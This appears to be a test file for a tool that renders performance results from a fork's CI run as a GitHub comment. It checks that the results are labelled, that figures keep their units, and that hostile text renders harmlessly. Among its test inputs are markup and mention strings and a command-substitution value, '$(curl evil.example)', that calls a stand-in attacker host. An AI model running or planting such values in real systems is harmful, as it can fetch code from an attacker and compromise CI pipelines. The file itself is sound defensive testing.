/** What is shown of a result that a fork wrote: labelled first, figures in their units, and nothing that acts. */
import fc from 'fast-check';
import { marked, type Token } from 'marked';
import type { Result } from '../../src/evidence/result/schema.ts';
import { type ForkRun, forkSentence, renderForkComment } from '../../src/report/fork/comment.ts';
import { renderForkOutputs } from '../../src/report/fork/outputs.ts';
import { renderOutputs } from '../../src/report/outputs.ts';
import type { Report } from '../../src/report/report.ts';
import { toResult } from '../../src/report/result.ts';
import { asReported, loginFailed, pass, slow } from './cases.ts';
import { hostile } from './hostile.ts';
import { liveFail } from './live-cases.ts';

const run: ForkRun = {
  headSha: '3f1c0de2b7a94d5e8f60718293a4b5c6d7e8f901',
  url: 'https://github.com/acme/houses/actions/runs/42',
  version: '0.1.0',
};
const resultOf = (report: Report): Result => JSON.parse(JSON.stringify(toResult(report)));
const comment = (report: Report) => renderForkComment(resultOf(report), run);

test('the label stands before the verdict, in the heading and in a warning of its own', () => {
  const text = comment(pass);
  expect(text).toMatch(
    /^## Measured by the fork’s own run: ✅ pass · Tailgate `realistic`\n\n> \[!WARNING\]\n> \*\*Measured by/,
  );
  expect(text).toContain('controls the code that measured and the file that these figures come from');
});

test('a failure shows its figures, limits and findings', () => {
  const text = comment(slow);
  expect(text).toContain('❌ fail');
  const rows = resultOf(slow).comparisons.filter(({ finding }) => finding !== null);
  expect(rows.length).toBeGreaterThan(0);
  expect(text).toMatch(
    /\| \*\*P99\*\* \| 170\u00a0ms \| 93\.8\u00a0ms \| \+81\.6\u00a0%<br><sub>\+42\.0\u00a0…\u00a0\+132\u00a0%<\/sub> \| ≤\u00a0100\u00a0ms \|/,
  );
  expect(text).toMatch(/🔴\u00a0▲ over limit/);
  expect(text).toMatch(/🔴\u00a0▼ regressed/);
});

test.each([
  ['a baseline', asReported, /\*\*Compared with:\*\* `/],
  ['a base', liveFail, /\*\*Compared with:\*\* the base `/],
])('it says what it was compared with: %s', (_, report, said) => {
  const text = comment(report);
  expect(text).toMatch(said);
  expect(text).toContain('| Compared with |');
});

test('a comparison with a base tells its blocks and both sides’ requests, and names its interval', () => {
  const text = comment(liveFail);
  expect(text).toContain('10 blocks of 3 s on either side · 18,000 requests on both sides');
  expect(text).toContain('| Change<br><sub>sequential interval</sub> |');
});

test('errors are told by their kinds', () => {
  expect(comment(asReported)).toContain('**Errors:** 186 × HTTP 400, 3 × HTTP 409, 1 × time-out<br>');
  expect(comment(slow)).not.toContain('**Errors:**');
});

test('without a measurement there is the reason and no table', () => {
  const text = comment(loginFailed);
  expect(text).toContain('🚫 invalid');
  expect(text).not.toContain('| Figure |');
  expect(text).not.toContain('<details>');
});

test('commit and link are those that GitHub told, whatever the file says', () => {
  const result = { ...resultOf(pass), commit: 'e'.repeat(40) };
  const text = renderForkComment(result, run);
  expect(text).toContain(`for commit ${run.headSha}`);
  expect(text).toContain(`[The run that measured](${run.url})`);
  expect(text).not.toContain('eeee');
});

test('a claim that somebody accepted the regression is not repeated', () => {
  const result = { ...resultOf(pass), accepted: { by: 'maintainer', at: '2026-11-22T10:00:00Z' } };
  expect(renderForkComment(result, run)).toBe(renderForkComment({ ...result, accepted: null }, run));
});

/** Our result with the text in every place that takes one. */
function filledWith(text: string, count = 3): Result {
  const result = resultOf(liveFail);
  const names = Array.from({ length: count }, (_, i) => `${text}${i}`);
  const [endpoint] = result.endpoints;
  const [comparison] = result.comparisons;
  const conditions = result.conditions as NonNullable<Result['conditions']>;
  return {
    ...result,
    name: text,
    reason: text.repeat(9).slice(0, 4000),
    target: text,
    warnings: names,
    conditions: { ...conditions, tool: text, machine: text, profile: text },
    live: { ...(result.live as NonNullable<Result['live']>), base: text },
    baseline: { source: text, title: text, date: text },
    endpoints: names.map((name) => ({ ...(endpoint as NonNullable<typeof endpoint>), name })),
    comparisons: names.map((name) => ({
      ...(comparison as NonNullable<typeof comparison>),
      endpoint: name,
      note: name,
    })),
  };
}

const OUR_HTML = /^<\/?(details|summary|sub|sup|br|code)>$/;

test('markup, mentions, links and control characters in it render as text', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const markdown = renderForkComment(filledWith(text), run);
      const links: string[] = [];
      const images: string[] = [];
      const tags: string[] = [];
      const words: string[] = [];
      let headings = 0;
      marked.walkTokens(marked.lexer(markdown), (token: Token) => {
        if (token.type === 'link') links.push(token.href);
        if (token.type === 'image') images.push(token.href);
        if (token.type === 'heading') headings += 1;
        if (token.type === 'text' && !('tokens' in token && token.tokens)) words.push(token.text);
        if (token.type === 'html') tags.push(...(token.raw.match(/<[^>]*>/g) ?? []));
      });
      expect(links).toEqual([run.url]);
      expect(images).toEqual([]);
      expect(headings).toBe(1);
      expect(tags.filter((tag) => !OUR_HTML.test(tag))).toEqual([]);
      expect(markdown).not.toContain('<!--');
      expect(words.filter((word) => /(?:^|[^&])[@#][A-Za-z]|\bwww\.e|GH-1/.test(word))).toEqual([]);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      expect(markdown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }),
    { numRuns: 150 },
  );
});

test('two thousand requests fit, and what is left out is counted', () => {
  const markdown = renderForkComment(filledWith('<script>@acme/owners', 2000), run, { limit: 60_000 });
  expect(markdown.length).toBeLessThanOrEqual(60_000);
  expect(markdown).toMatch(/\d+ more requests left out for want of room; all of them are in the artifact/);
  expect(markdown.match(/<details>/g)?.length).toBe(markdown.match(/<\/details>/g)?.length);
  expect(renderForkComment(filledWith('`|', 2000), run, { limit: 30_000 }).length).toBeLessThanOrEqual(
    30_000,
  );
});

test('figures at the ends of what is taken are still figures', () => {
  const result = resultOf(slow);
  const metrics = result.metrics as NonNullable<Result['metrics']>;
  for (const value of [0, 5e-324, 1e12]) {
    const latencyMs = { ...(metrics.latencyMs as NonNullable<typeof metrics.latencyMs>), p99: value };
    const text = renderForkComment(
      { ...result, comparisons: [], metrics: { ...metrics, latencyMs, throughputPerSecond: value } },
      run,
    );
    expect(text).not.toMatch(/NaN|Infinity|e\+/);
  }
});

test('the outputs are those of a measuring run, with no sentence of the fork’s', () => {
  for (const report of [pass, slow, liveFail, loginFailed]) {
    const outputs = renderForkOutputs(resultOf(report));
    const { reason, ...measured } = renderOutputs(report);
    expect(Object.keys(outputs)).toEqual(Object.keys(renderOutputs(report)));
    expect(outputs).toMatchObject(measured);
    expect(outputs.reason).toBe(forkSentence(resultOf(report)));
  }
  const evil = renderForkOutputs(filledWith('$(curl evil.example)'));
  expect(JSON.stringify(evil)).not.toContain('evil');
});
